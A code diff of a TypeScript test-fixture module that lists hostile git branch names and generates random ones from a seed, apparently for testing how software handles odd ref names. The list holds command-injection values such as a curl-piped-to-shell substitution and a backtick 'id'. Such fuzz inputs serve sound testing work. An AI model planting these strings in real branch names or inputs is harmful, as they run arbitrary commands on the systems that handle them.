@@ -1,6 +1,6 @@
 import { createHash } from 'node:crypto';
 
-/** Legal for git (check-ref-format) but for the ones with ":" or "[", and unpleasant for everyone else. */
+/** Names that git allows, but for those with ":" or "[", and that are hard on everything else. */
 export const nastyNames: readonly string[] = [
   'feature/$(curl${IFS}x|sh)',
   'feature/`id`',
@@ -38,12 +38,10 @@ export const nastyNames: readonly string[] = [
 
 const alphabet = Array.from('abcdefghijklmnopqrstuvwxyzABCXYZ0123456789._-/#!$(){}&%`\'"|;<>=+,@ßé日😀');
 
-/** `count` names from a seed: the same ones every time. Many are longer than a tag may be. */
+/** Makes `count` names from a seed, the same ones every time. Many are longer than a tag may be. */
 export function randomNames(count: number, seed: number): readonly string[] {
   return Array.from({ length: count }, (_, index) => {
-    const bytes = createHash('sha256')
-      .update(`${String(seed)}/${String(index)}`)
-      .digest();
+    const bytes = createHash('sha256').update(`${seed}/${index}`).digest();
     const length = 1 + (bytes.readUInt16BE(0) % 250);
     let name = '';
     for (let at = 0; at < length; at++) {
